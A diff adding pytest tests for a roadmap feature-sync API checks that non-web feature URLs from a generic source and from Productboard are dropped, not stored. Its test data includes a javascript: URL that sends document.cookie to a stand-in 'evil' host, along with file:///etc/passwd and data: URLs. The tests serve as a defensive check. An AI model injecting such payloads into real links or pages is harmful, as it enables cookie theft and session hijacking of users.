@@ -1840,3 +1840,68 @@ def test_a_stored_source_naming_another_variable_fails_its_refresh_without_sendi
         w.startswith("config.auth_env: HUBSPOT_CLIENT_SECRET is not read")
         for w in shown["warnings"]
     )
+
+
+# --- a feature url from a source is a web link, as the features API requires (security fix) -----
+
+BAD_URLS = ["javascript:fetch('//evil/'+document.cookie)", "file:///etc/passwd", "data:text/html,x"]
+
+
+def _features_urls(engine, source: str) -> dict[str, str | None]:
+    with Session(engine) as s:
+        return {f.key: f.url for f in s.exec(select(FeatureRow).where(FeatureRow.source == source))}
+
+
+def test_a_feature_url_from_an_http_source_that_is_no_web_link_is_dropped(
+    client, api_key, engine, mock_api
+):
+    """POST /api/v1/features refuses such a url; a refresh stored it, and {feature.url} goes
+    into CRM messages and the dashboard. Now stored as none, the feature kept, counted."""
+    revops = api_key("revops")
+    _source(client, revops)
+    items = [
+        {"key": f"bad-{i}", "name": f"Bad {i}", "status": "GA", "url": url}
+        for i, url in enumerate(BAD_URLS)
+    ]
+    good = {"key": "sso", "name": "SSO", "status": "GA", "url": "https://roadmap.example.com/sso"}
+    mock_api.get(URL).mock(return_value=httpx.Response(200, json=_page(*items, good)))
+    r = client.post("/api/v1/roadmap/sources/acme/refresh", headers=revops)
+    assert r.status_code == 200 and r.json()["ok"] is True, r.text
+    assert r.json()["urls_dropped"] == 3 and r.json()["fetched"] == 4
+    assert _features_urls(engine, "acme") == {
+        "bad-0": None,
+        "bad-1": None,
+        "bad-2": None,
+        "sso": "https://roadmap.example.com/sso",
+    }
+    shown = client.get("/api/v1/features/bad-0", headers=revops).json()
+    assert shown["url"] is None
+
+
+def test_a_feature_url_from_productboard_that_is_no_web_link_is_dropped(
+    client, api_key, engine, mock_api, monkeypatch
+):
+    monkeypatch.setenv("ROADMAP_SOURCE_PB_TOKEN", "tok")
+    revops = api_key("revops")
+    r = client.post(
+        "/api/v1/roadmap/sources",
+        json={
+            "name": "pb",
+            "kind": "productboard",
+            "config": {"token_env": "ROADMAP_SOURCE_PB_TOKEN"},
+        },
+        headers=revops,
+    )
+    assert r.status_code == 201, r.text
+    entity = {
+        "id": "2f0a1c3e-6a7b-4c1d-9e2f-0123456789ab",
+        "type": "feature",
+        "fields": {"name": "Audit"},
+        "links": {"html": BAD_URLS[0]},
+    }
+    mock_api.get("https://api.productboard.com/v2/entities").mock(
+        return_value=httpx.Response(200, json={"data": [entity], "links": {"next": None}})
+    )
+    r = client.post("/api/v1/roadmap/sources/pb/refresh", headers=revops)
+    assert r.json()["ok"] is True and r.json()["urls_dropped"] == 1, r.text
+    assert _features_urls(engine, "pb") == {"pb-2f0a1c3e-6a7b-4c1d-9e2f-0123456789ab": None}
